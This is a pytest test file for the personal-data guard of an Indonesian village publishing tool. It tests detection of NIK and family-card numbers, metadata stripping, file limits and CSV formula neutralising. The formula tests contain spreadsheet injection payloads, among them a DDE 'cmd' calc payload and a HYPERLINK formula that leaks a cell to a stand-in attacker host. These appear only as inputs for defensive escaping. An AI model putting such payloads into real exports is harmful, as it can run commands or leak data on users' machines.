"""The personal-data guard: NIK / No. KK detection, CSV columns, allowlist, metadata, limits."""
from __future__ import annotations

import io
import json
import os
import time
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from PIL import Image, PngImagePlugin

from papan_desa import guard
from papan_desa.guard import (
    Allowlist, GuardError, classify_id, decode_text, find_personal_ids, formula_safe, load_allowlist,
    scan_csv, scan_csv_header, scan_image_metadata, scan_text, scan_village, strip_image_metadata,
    strip_pdf_metadata,
)
from papan_desa.problems import Problems

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "adversarial"

NIK_MAN = "3307010101900001"     # Wonosobo 33.07.01, a man born 01-01-1990 (used in generated inputs)
NIK_A = "3307014101900001"       # day 41 = 1 + 40: a woman born 01-01-1990 (the corpus' main example)
NIK_WOMAN = "3307015203850002"   # day 52 = 12 + 40: a woman born 12-03-1985
NO_KK = "3307012005100003"       # KK issued 20-05-2010


# ---------------------------------------------------------------- detection

@pytest.mark.parametrize("text, digits", [
    ("NIK 3307014101900001", ["3307014101900001"]),
    ("3307 0141 0190 0001", ["3307014101900001"]),
    ("33.07.01.410190.0001", ["3307014101900001"]),
    ("330701-410190-0001", ["3307014101900001"]),
    ("3307 - 0141 - 0190 - 0001", ["3307014101900001"]),
    ("330701\u00a0410190\u00a00001", ["3307014101900001"]),          # no-break spaces
    ("３３０７０１４１０１９００００１", ["3307014101900001"]),        # full-width digits
    ("ID3307014101900001x", ["3307014101900001"]),                  # glued to letters
    ("KK 3307012005100003", ["3307012005100003"]),
    ("a 3307014101900001 b 3307015203850002", ["3307014101900001", "3307015203850002"]),
    ("2024 3307014101900001", ["3307014101900001"]),                # a year before it is its own group
    ("1101013112990001", ["1101013112990001"]),                     # Aceh, 31-12-99
    ("9601017112000001", ["9601017112000001"]),                     # Papua Barat Daya, woman 31-12-00
])
def test_personal_ids_found(text, digits):
    assert [h[3] for h in find_personal_ids(text)] == digits


@pytest.mark.parametrize("text", [
    "Rp 1.244.674.000",                 # rupiah amount: 10 digits
    "33.07.01.2001",                    # Kemendagri village code
    "+62 812-3456-7890",                # phone
    "0812 3456 7890 1234",              # 16 digits but province 08 does not exist
    "1234567890123456",                 # province 12, but day 78
    "33070141019000012345",             # 20 digits: no 16-digit piece is cut out of it
    "3307014101900001234",              # 19 digits
    "3307013201900001",                 # day 32
    "3307017201900001",                 # day 72 (women end at 71)
    "3307014113900001",                 # month 13
    "3307014100900001",                 # month 00
    "3307014101900000",                 # serial 0000
    "9907014101900001",                 # province 99
    "3300014101900001",                 # kabupaten 00
    "3307004101900001",                 # kecamatan 00
    "-7.3607014101900001",              # decimals of a coordinate
    "Rp 1.234.567.890.123.456",         # 16 digits in thousands, day 78
    "33070141 \n 01900001",             # not across a line break
])
def test_other_numbers_not_flagged(text):
    assert find_personal_ids(text) == []


def test_span_and_kind():
    text = "Ibu Siti: 3307 0152 0385 0002."
    [(start, end, kind, digits)] = find_personal_ids(text)
    assert text[start:end] == "3307 0152 0385 0002"
    assert kind == "NIK" and digits == NIK_WOMAN
    assert classify_id(NO_KK) == "NIK/No. KK"
    assert classify_id("33070120051000") is None


# ---------------------------------------------------------------- scan_text

def test_scan_text_line_column_and_mask():
    p = Problems()
    n = scan_text("villages/x/berita/a.md", "Judul\n\nWarga: 3307 0141 0190 0001 dan KK 3307012005100003\n", p)
    assert n == 2
    assert [(e.line, e.column) for e in p.errors] == [(3, 8), (3, 35)]  # "Warga: " is 7 chars; 7 + 19 + " dan KK " (8) = 34
    msg = p.errors[0].message
    assert msg == ('kemungkinan NIK/No. KK (data pribadi) "3307xxxxxxxxxxxx" tidak boleh diterbitkan; hapus, '
                   "atau bila ini bukan data pribadi, daftarkan di privasi-izin.csv dengan alasannya")
    assert str(p.errors[0]).startswith("villages/x/berita/a.md:3:8: galat: ")
    for e in p.errors:
        assert NIK_A not in e.message and NO_KK not in e.message


def test_scan_text_offset_inside_a_file():
    p = Problems()
    scan_text("a.md", "x 3307014101900001\n3307014101900001", p, first_line=7, first_column=5)
    assert [(e.line, e.column) for e in p.errors] == [(7, 7), (8, 1)]


# ---------------------------------------------------------------- allowlist

def test_allowlist_loads_and_allows_only_its_file(tmp_path):
    f = tmp_path / "privasi-izin.csv"
    f.write_text("berkas,nilai,alasan\n"
                 "villages/a/aset.md,3307 0101 0101 0001,nomor register aset, bukan NIK\n"
                 "villages/*/rekening.csv,3307010101010002,nomor rekening kas desa\n", encoding="utf-8")
    p = Problems()
    allow = load_allowlist(f, p)
    assert not p.items
    assert [(e.pattern, e.digits, e.reason) for e in allow.entries] == [
        ("villages/a/aset.md", "3307010101010001", "nomor register aset, bukan NIK"),
        ("villages/*/rekening.csv", "3307010101010002", "nomor rekening kas desa"),
    ]
    q = Problems(root=tmp_path)
    scan_text(tmp_path / "villages/a/aset.md", "aset 3307010101010001", q, allow)
    scan_text(tmp_path / "villages/b/aset.md", "aset 3307010101010001", q, allow)   # other village: not allowed
    scan_text(tmp_path / "villages/b/rekening.csv", "3307010101010002", q, allow)   # glob
    assert [e.file for e in q.errors] == ["villages/b/aset.md"]
    allow.report_unused(q)
    assert not q.warnings


def test_allowlist_rows_need_reason_and_digits(tmp_path):
    f = tmp_path / "privasi-izin.csv"
    f.write_text("berkas,nilai,alasan\n"
                 "villages/a/x.md,3307010101010001,\n"
                 "villages/a/x.md,12345,salah ketik\n"
                 ",3307010101010001,tanpa berkas\n", encoding="utf-8")
    p = Problems()
    allow = load_allowlist(f, p)
    assert allow.entries == []
    assert [(e.line, e.column) for e in p.errors] == [(2, 3), (3, 2), (4, 1)]
    assert "wajib diberi alasan" in p.errors[0].message
    assert "16 angka" in p.errors[1].message
    assert "kolom berkas wajib diisi" in p.errors[2].message


def test_allowlist_wrong_header_and_missing_file(tmp_path):
    p = Problems()
    assert load_allowlist(tmp_path / "tidak-ada.csv", p).entries == [] and not p.items
    f = tmp_path / "privasi-izin.csv"
    f.write_text("file,value\nx,1\n", encoding="utf-8")
    load_allowlist(f, p)
    assert len(p.errors) == 1 and 'kolom "berkas" tidak ada' in p.errors[0].message


def test_unused_allowlist_entry_is_a_warning(tmp_path):
    f = tmp_path / "privasi-izin.csv"
    f.write_text("berkas,nilai,alasan\nvillages/a/x.md,3307010101010001,aset\n", encoding="utf-8")
    p = Problems()
    load_allowlist(f, p).report_unused(p)
    assert [(w.line, w.level) for w in p.warnings] == [(2, "peringatan")]
    assert "3307010101010001" not in p.warnings[0].message


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("header, context, refused", [
    ("nik", False, True), ("NIK Penerima", False, True), ("No. KK", False, True), ("nomor_kk", False, True),
    ("no_ktp", False, True), ("tanggal_lahir", False, True), ("Tgl Lahir", False, True), ("TTL", False, True),
    ("tempat_tanggal_lahir", False, True), ("tahun_lahir", False, True),
    ("nama_penerima", False, True), ("penerima", False, True), ("nama_kk", False, True),
    ("Nama Kepala Keluarga", False, True), ("alamat_penerima", False, True),
    ("nama", True, True), ("alamat", True, True), ("nama_lengkap", True, True),
    # fine
    ("nama", False, False), ("alamat", False, False), ("jabatan", True, False), ("dusun", True, False),
    ("jumlah_penerima", True, False), ("jumlah_kk", False, False), ("kk", False, False),
    ("kelahiran", False, False), ("jml_lahir", False, False), ("nilai", True, False),
])
def test_personal_columns(header, context, refused):
    assert (guard.personal_column(header, context) is not None) == refused


def test_recipient_context_from_file_name_or_columns():
    assert guard.is_recipient_context("villages/x/penerima-blt-2025.csv", ["nama", "dusun"])
    assert guard.is_recipient_context("villages/x/daftar.csv", ["nama", "jenis_bantuan"])
    assert not guard.is_recipient_context("villages/x/perangkat.csv", ["nama", "jabatan"])


def test_scan_csv_reports_header_and_cells():
    rows = [["no", "nama", "nik", "dusun"],
            ["1", "Siti", NIK_WOMAN, "Krajan"],
            ["2", "Budi", "", "Ket: " + NIK_A]]
    p = Problems()
    scan_csv("villages/x/bantuan-blt.csv", rows, p, lines=[1, 2, 4])
    got = [(e.line, e.column) for e in p.errors]
    assert got == [(1, 2), (1, 3), (2, 3), (4, 4)]
    assert p.errors[1].message.startswith('kolom "nik" berisi NIK/No. KK (terisi di 1 baris)')
    assert p.errors[3].message.endswith('(kolom "dusun")')


def test_scan_csv_header_alone():
    p = Problems()
    assert scan_csv_header("villages/x/perangkat.csv", ["nama", "jabatan", "tgl_lahir"], p) == [2]
    assert [(e.line, e.column) for e in p.errors] == [(1, 3)]


# ---------------------------------------------------------------- formula injection

@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("  =1", "'  =1"),
    ("＝1+1", "'＝1+1"),
    ("+62 812-3456-7890", "'+62 812-3456-7890"),
    # numbers stay numbers
    ("-2131580", "-2131580"), ("-2.131.580", "-2.131.580"), ("+5,5", "+5,5"), ("-12%", "-12%"),
    ("+6281234567890", "+6281234567890"),
    # ordinary text is untouched
    ("Pembangunan jalan", "Pembangunan jalan"), ("", ""), ("a=b", "a=b"), ("-", "'-"),
])
def test_formula_safe(cell, expected):
    assert formula_safe(cell) == expected


def test_rumus_csv_cells_neutralised():
    text = (CORPUS / "desa-uji" / "rumus.csv").read_text(encoding="utf-8")
    rows = [cells for _line, cells in guard.iter_csv_rows(text, "rumus.csv", Problems())]
    assert [[formula_safe(c) for c in r] for r in rows[1:]] == [
        ['\'=HYPERLINK("http://jahat.example/?x="&A1;"klik")', "1000"],
        ["'+cmd|' /C calc'!A0", "2000"],
        ["'@SUM(1+1)*cmd|' /C calc'!A0", "-3000"],
        ["'-2+3+cmd|' /C calc'!A0", "-2.131.580"],
    ]


# ---------------------------------------------------------------- encodings

def test_decode_text_variants():
    s = "dusun,ket\nKrajan,é 3307014101900001\n"
    assert decode_text(s.encode("utf-8"))[0] == s
    assert decode_text(b"\xef\xbb\xbf" + s.encode("utf-8"))[0] == s
    assert decode_text(s.encode("utf-16"))[0] == s
    assert decode_text(s.encode("utf-16-le")) == (s, "utf-16-le")
    assert decode_text(s.encode("utf-16-be")) == (s, "utf-16-be")
    assert decode_text(s.encode("cp1252")) == (s, "cp1252")


# ---------------------------------------------------------------- images

def _photo_with_metadata(path: Path) -> None:
    im = Image.new("RGB", (40, 30), (10, 120, 200))
    exif = Image.Exif()
    exif[0x013B] = "Operator " + NIK_MAN
    exif[0x0112] = 6  # orientation: rotate
    exif[0x8825] = {1: "S", 2: (7.0, 21.0, 36.0), 3: "E", 4: (109.0, 54.0, 0.0)}
    im.save(path, "JPEG", exif=exif, icc_profile=b"", comment=b"komentar")


def test_image_metadata_scan_and_strip(tmp_path):
    src, dst = tmp_path / "foto.jpg", tmp_path / "out" / "foto.jpg"
    _photo_with_metadata(src)
    p = Problems()
    assert scan_image_metadata(src, p)
    assert [e.message.endswith("(metadata gambar: Artist)") for e in p.errors] == [True]
    assert strip_image_metadata(src, dst)
    with Image.open(dst) as im:
        assert im.size == (30, 40)            # orientation applied before EXIF was dropped
        assert len(im.getexif()) == 0
        assert "exif" not in im.info and "icc_profile" not in im.info and "comment" not in im.info
    first = dst.read_bytes()
    strip_image_metadata(src, dst)
    assert dst.read_bytes() == first          # deterministic
    assert b"Operator" not in first and NIK_MAN.encode() not in first
    q = Problems()
    scan_image_metadata(dst, q)
    assert not q.items


def test_png_text_stripped_transparency_kept(tmp_path):
    src, dst = tmp_path / "a.png", tmp_path / "b.png"
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Budi " + NIK_WOMAN)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>gps</x:xmpmeta>")
    im = Image.new("P", (8, 8), 0)
    im.putpalette([0, 0, 0, 255, 0, 0])
    im.putpixel((0, 0), 1)
    im.save(src, "PNG", pnginfo=info, transparency=0)
    p = Problems()
    scan_image_metadata(src, p)
    assert len(p.errors) == 1 and "(metadata gambar: Author)" in p.errors[0].message
    strip_image_metadata(src, dst)
    with Image.open(dst) as im:
        assert "Author" not in im.info and "XML:com.adobe.xmp" not in im.info
        rgba = im.convert("RGBA")
        assert rgba.getpixel((1, 1)) == (0, 0, 0, 0) and rgba.getpixel((0, 0)) == (255, 0, 0, 255)
    assert b"Budi" not in dst.read_bytes()


def test_webp_metadata_stripped(tmp_path):
    src, dst = tmp_path / "a.webp", tmp_path / "b.webp"
    exif = Image.Exif()
    exif[0x013B] = "Budi"
    Image.new("RGB", (8, 8), (1, 2, 3)).save(src, "WEBP", exif=exif, xmp=b"<xmp>gps</xmp>")
    strip_image_metadata(src, dst)
    data = dst.read_bytes()
    assert b"EXIF" not in data and b"XMP " not in data and b"Budi" not in data


def test_broken_image_is_clear_error(tmp_path):
    bad = tmp_path / "rusak.jpg"
    bad.write_bytes(b"bukan gambar")
    with pytest.raises(GuardError, match="bukan berkas gambar yang sah"):
        strip_image_metadata(bad, tmp_path / "x.jpg")
    p = Problems()
    assert strip_image_metadata(CORPUS / "desa-uji" / "foto" / "terpotong.jpg", tmp_path / "y.jpg", problems=p) is False
    assert p.errors[0].message.startswith("gambar rusak atau terpotong")


# ---------------------------------------------------------------- PDF

def test_pdf_metadata_stripped(tmp_path):
    from pypdf import PdfReader

    src = CORPUS / "desa-uji" / "dokumen" / "daftar-hadir.pdf"
    assert PdfReader(src).metadata["/Author"].startswith("Sekdes")
    dst = tmp_path / "bersih.pdf"
    assert strip_pdf_metadata(src, dst)
    reader = PdfReader(dst)
    assert reader.metadata is None
    assert "/Metadata" not in reader.trailer["/Root"]
    assert "Peserta" in reader.pages[0].extract_text()      # content kept
    assert b"Sekdes" not in dst.read_bytes()
    first = dst.read_bytes()
    strip_pdf_metadata(src, dst)
    assert dst.read_bytes() == first


def test_broken_pdf_is_clear_error(tmp_path):
    src = CORPUS / "desa-uji" / "dokumen" / "terpotong.pdf"
    with pytest.raises(GuardError, match="PDF rusak atau terpotong"):
        strip_pdf_metadata(src, tmp_path / "x.pdf")


# ---------------------------------------------------------------- whole village: the corpus

def _corpus_scan():
    p = Problems(root=ROOT)
    allow = load_allowlist(CORPUS / "privasi-izin.csv", p)
    scan_village(CORPUS / "desa-uji", p, allow, ROOT)
    return p, allow


def test_adversarial_corpus_exact_outcomes():
    expected = json.loads((CORPUS / "expected.json").read_text(encoding="utf-8"))["pindai"]
    files = sorted(f.relative_to(CORPUS / "desa-uji").as_posix()
                   for f in (CORPUS / "desa-uji").rglob("*") if f.is_file())
    assert files == sorted(expected), "every corpus file needs an expected outcome"
    p, allow = _corpus_scan()
    prefix = "tests/adversarial/desa-uji/"
    got: dict[str, list] = {name: [] for name in expected}
    for item in p.items:
        assert item.file.startswith(prefix), item
        got[item.file[len(prefix):]].append([item.line, item.column, item.level, item.message])
    for name in expected:
        assert got[name] == expected[name], name
    assert [e.used for e in allow.entries] == [True]


def test_corpus_hand_checked_highlights():
    """A few outcomes of the corpus written out by hand, independent of expected.json."""
    p, _ = _corpus_scan()
    by_file: dict[str, list] = {}
    for e in p.items:
        by_file.setdefault(e.file.rsplit("/", 1)[-1], []).append((e.line, e.column))
    assert by_file["nik-ejaan.md"] == [(2, 18), (6, 6), (7, 8), (8, 8), (9, 8), (10, 11), (11, 8), (11, 45),
                                       (11, 66), (12, 14), (13, 11), (14, 8), (15, 10)]
    assert by_file["penerima-blt.csv"] == [(1, 2), (1, 3), (1, 4), (1, 5), (1, 6), (2, 4), (2, 5), (3, 4)]
    assert by_file["utf16-keterangan.csv"] == [(2, 2)]
    assert by_file["cp1252.md"] == [(3, 21)]
    assert by_file["daftar-penerima.md"] == [(5, 8), (5, 15)]   # "| No | " is 7 chars; the officials' table passes
    for name in ("bantuan-per-dusun.csv", "perangkat.csv", "rumus.csv", "batas.geojson", "izin.md", "skrip.md"):
        assert name not in by_file
    for e in p.items:
        assert NIK_A not in e.message and NIK_WOMAN not in e.message


# ---------------------------------------------------------------- limits, links, special files

def _sparse(path: Path, size: int) -> None:
    with open(path, "wb") as fh:
        fh.truncate(size)


@pytest.mark.parametrize("name, label", [
    ("besar.jpg", "gambar terlalu besar"), ("besar.pdf", "dokumen PDF terlalu besar"),
    ("besar.csv", "data CSV terlalu besar"), ("besar.md", "tulisan Markdown terlalu besar"),
    ("besar.zip", "berkas terlalu besar"),
])
def test_huge_files_fail_fast_with_bounded_memory(tmp_path, name, label):
    village = tmp_path / "desa"
    village.mkdir()
    _sparse(village / name, 2 * 1024 ** 3)     # 2 GB, never read
    p = Problems(root=tmp_path)
    tracemalloc.start()
    t0 = time.process_time()      # CPU time: a loaded machine must not fail the test
    scan_village(village, p)
    elapsed = time.process_time() - t0
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 5 and peak < 20 * 1024 * 1024
    assert [str(e) for e in p.errors] == [
        f"desa/{name}: galat: {label}; diharapkan paling besar "
        + ("25,0 MB" if name.endswith("jpg") else "20,0 MB" if name.endswith(("pdf", "zip"))
           else "5,0 MB" if name.endswith("csv") else "1,0 MB")
        + ', ditemukan "2048,0 MB"; perkecil atau pecah berkasnya']


def test_million_row_csv_stops_at_the_row_limit(tmp_path):
    village = tmp_path / "desa"
    village.mkdir()
    (village / "data.csv").write_bytes(b"a,b\n" + b"1,2\n" * 1_000_000)   # 4 MB: under the byte limit
    p = Problems(root=tmp_path)
    t0 = time.process_time()      # CPU time: a loaded machine must not fail the test
    scan_village(village, p)
    assert time.process_time() - t0 < 10
    assert [(e.line, e.column) for e in p.errors] == [(100_002, 1)]
    assert p.errors[0].message == ('CSV terlalu banyak baris; diharapkan paling banyak 100.000 baris data, '
                                   'ditemukan "lebih dari 100.000 baris"')


def test_limits_are_configurable(tmp_path):
    village = tmp_path / "desa"
    village.mkdir()
    (village / "a.md").write_text("x" * 2000)
    p = Problems(root=tmp_path)
    scan_village(village, p, limits={"markdown": 1000})
    assert len(p.errors) == 1 and "tulisan Markdown terlalu besar" in p.errors[0].message


def test_symlinks_and_special_files(tmp_path):
    village = tmp_path / "desa"
    (village / "foto").mkdir(parents=True)
    secret = tmp_path / "rahasia.txt"
    secret.write_text(NIK_MAN)
    (village / "foto" / "ok.txt").write_text("aman")
    os.symlink(secret, village / "keluar.txt")
    os.symlink(village / "foto" / "ok.txt", village / "dalam.txt")
    os.symlink(tmp_path, village / "folder-luar")
    os.symlink(tmp_path / "tidak-ada", village / "rusak.txt")
    os.mkfifo(village / "pipa.csv")
    p = Problems(root=tmp_path)
    scan_village(village, p)
    got = sorted((e.file, e.message.split(";")[0]) for e in p.errors)
    assert got == [
        ("desa/folder-luar", "tautan simbolik menunjuk ke luar folder desa"),
        ("desa/keluar.txt", "tautan simbolik menunjuk ke luar folder desa"),
        ("desa/pipa.csv", "bukan berkas biasa (mis. pipa atau perangkat)"),
        ("desa/rusak.txt", "tautan simbolik rusak (menunjuk ke berkas yang tidak ada)"),
    ]


def test_pdf_page_without_text_is_held_for_review(tmp_path):
    """A page with nothing to read (no text layer, OCR reads nothing) is held, no longer only warned about
    (issue 27; scans with text are in tests/test_ocr_guard.py)."""
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(100, 100)
    path = tmp_path / "pindaian.pdf"
    with open(path, "wb") as fh:
        w.write(fh)
    p = Problems()
    assert guard.scan_pdf(path, p)
    assert [e.message.split(":")[0] for e in p.errors] == [
        "ditahan, menunggu tinjauan (halaman 1"] and not p.warnings


# ---------------------------------------------------------------- properties

def _nik_strategy():
    province = st.sampled_from(sorted(guard.PROVINCE_CODES))
    two = st.integers(1, 99)
    day = st.one_of(st.integers(1, 31), st.integers(41, 71))
    return st.tuples(province, two, two, day, st.integers(1, 12), st.integers(0, 99), st.integers(1, 9999)).map(
        lambda t: "%02d%02d%02d%02d%02d%02d%04d" % t)


@settings(deadline=None)
@given(_nik_strategy(), st.lists(st.sampled_from(["", " ", ".", "-", " - "]), min_size=15, max_size=15),
       st.sampled_from(["", "NIK ", "x", "Rp 1.000 dan "]), st.sampled_from(["", ".", " orang", ";"]))
def test_property_every_valid_nik_is_found_in_any_spelling(nik, seps, before, after):
    written = "".join(d + s for d, s in zip(nik, seps + [""]))
    text = before + written + after
    hits = find_personal_ids(text)
    assert [h[3] for h in hits] == [nik]
    start, end, _kind, _ = hits[0]
    assert text[start:end] == written


@settings(deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
def test_property_find_personal_ids_total(text):
    for start, end, kind, digits in find_personal_ids(text):
        assert 0 <= start < end <= len(text)
        assert kind in ("NIK", "NIK/No. KK") and classify_id(digits) == kind
        assert "".join(str(int(c)) for c in text[start:end] if c.isdecimal()) == digits


@settings(deadline=None)
@given(st.text(alphabet="0123456789 .-\n", max_size=200))
def test_property_find_personal_ids_digit_soup(text):
    for start, end, _kind, digits in find_personal_ids(text):
        assert len(digits) == 16 and "\n" not in text[start:end]


@settings(deadline=None)
@given(st.text(max_size=50))
def test_property_formula_safe(cell):
    out = formula_safe(cell)
    assert out in (cell, "'" + cell)
    first = out.lstrip(" ")[:1]
    if first and first in "=+-@\t\r＝＋－＠":
        assert guard._PLAIN_NUMBER.match(out.lstrip(" "))


@settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=400))
def test_property_csv_and_allowlist_parsers_never_raise(tmp_path, data):
    text, _enc = decode_text(data)
    p = Problems()
    rows = list(guard.iter_csv_rows(text, "x.csv", p, max_rows=50))
    assert all(isinstance(c, list) for _l, c in rows)
    scan_csv("x.csv", [c for _l, c in rows], p, lines=[l for l, _c in rows])
    f = tmp_path / "privasi-izin.csv"
    f.write_bytes(b"berkas,nilai,alasan\n" + data)
    allow = load_allowlist(f, p)
    assert all(len(e.digits) == 16 and e.reason for e in allow.entries)
    for e in p.items:
        assert e.message


@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=300))
def test_property_image_scan_never_raises(tmp_path, data):
    f = tmp_path / "acak.jpg"
    f.write_bytes(data)
    p = Problems()
    ok = scan_image_metadata(f, p)
    assert ok or p.errors


def test_papan_admin_checks_a_form_under_the_same_limits_as_the_build(tmp_path):
    """Papan Admin's check of an edit runs the guard with the kabupaten's limits (guard.batas), so a form
    is refused by the same rule as the build refuses the file."""
    from papan_desa.admin.check import Checker
    from tests.support import fixture_village

    villages = tmp_path / "villages"
    fixture_village(villages, "kaligowong")
    post = ("Title: Kerja bakti\nDate: 2025-09-09\n\n" + "Warga membersihkan saluran air. " * 40).encode()
    edit = {"berita/2025-09-09-kerja-bakti.md": post}
    default = Checker(villages, None, None, tmp_path / "kerja").check("kaligowong", edit)
    assert not [p for p in default.blocking if "terlalu besar" in p.message]
    lowered = guard.batas({"PAPAN_BATAS": {"markdown": 1000}})
    res = Checker(villages, None, None, tmp_path / "kerja", lowered).check("kaligowong", edit)
    assert any("kerja-bakti.md" in p.file and "terlalu besar" in p.message for p in res.blocking), res.blocking
